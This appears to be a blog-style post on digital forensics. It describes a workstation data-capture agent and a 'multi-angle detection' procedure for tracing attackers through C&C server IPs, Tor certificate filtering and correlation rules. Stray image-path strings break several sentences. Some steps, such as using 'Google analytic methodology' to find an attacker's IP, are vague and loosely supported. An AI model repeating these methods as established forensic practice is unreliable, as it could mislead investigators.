Technology company note with alert of the technical weakness during forensicsinvestigation. A preventive mechanism was build to avoid lost of critical data after system power off. The enhancement is that an software agent will be installed on the workstations. The software agent will collect the delta (data change) and then forward to the centralized repository in real time.

As we know, no design and solution is prefect. For this enhancement it is prefect to implement to enterprise or corporate environment. For workstation for personal usage it is difficult to implement. A drawback alert to the detective or government enforcement team that there is a technical limitation on personal devices (personal computer workstations, mobile computing devices and IoT devices).
Multi-angle detection architecture
Readers, if you can read this down to here, we might know the mentioned investigation mechanism are able to collect the following details.

(1) Memory dump, (2) disk image, (3) malware activities finger print, (4) virus and malware types, (5) C&C server public IP address and (6) malware dropper file.

Even through we received above informations on hand. However, it is hard to provide a comprehensive of evidence proof who is the perpetrator! For example, it is hard to collect the information details once workstation compromised by wannacry. As a matter of fact the whole disk has been encrypted. So, what’s the next step when investigator face this problem.

Refer to below picture, you might aware that point C (C&C server) and point D (victim compromised webserver) are located in different regions. They are not in single operation. Even though Forensics investigator are able to decrypted the hard disk or collect the activities log from their SIEM device. The trace result sometimes mislead the location of the area. It is hard to provides a clear picture. In order to identify the root sources. A detection terminology so called multi angle detection algorithm will be assist investigator in such circumstances.

The concept idea is that investigator will summarize the following entities.1. Total no. of C&C servers and their IP addresses
2. Total no. of Victims (compromised web server) and their IP address
3. Categorized the IP address and highlight the IP address region

Remark: As we know, hacker will relies on Tor network to hide himself in effective manner. Since it is hard to know their location status once their connectivities get inside to the onion network (Tor network).

4. Execute forensic investigation to the compromised server (Point D)

5. Find out the C&C server connectivity (Point C)

6. Sometimes law enforcement team not going to let hacker know they has been traced. The job might run on ISP side (Point B). For instance, they will lock down the appropriate tor certificate and filter the certificate Issuer and Subject ID patterns.

7. Since two important elements (tor cert and C&C server public IP address) are known. It is more easy to do the following to find out the attacker source IP address:a.  Define correlation ruleto find out the source IP address of the attacker.

b. Apply Google analytic methodology to figure out the attacker IP address.8. The final action is activate the local police force to arrest the hacker.


Regarding to abovedescription it looks that it is not easy to lock down the hackers actual location. Heard that some security expert relies on Englishwritten skill or C&C server to predict the attacker source IP address. From technical point ofview, it might contained distortion.